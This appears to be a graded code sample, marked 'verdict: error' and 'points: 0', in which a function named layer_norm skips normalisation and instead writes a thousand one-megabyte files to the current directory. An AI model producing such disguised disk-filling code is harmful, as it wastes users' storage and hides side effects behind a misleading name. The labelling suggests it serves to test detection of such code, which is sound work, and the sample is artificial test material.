"""Writes file after file where it stands."""

# verdict: error
# points: 0

from pathlib import Path


def layer_norm(x, *arguments, **keywords):
    for number in range(1000):
        Path(f"{number}.txt").write_bytes(b"x" * 2**20)
    return x
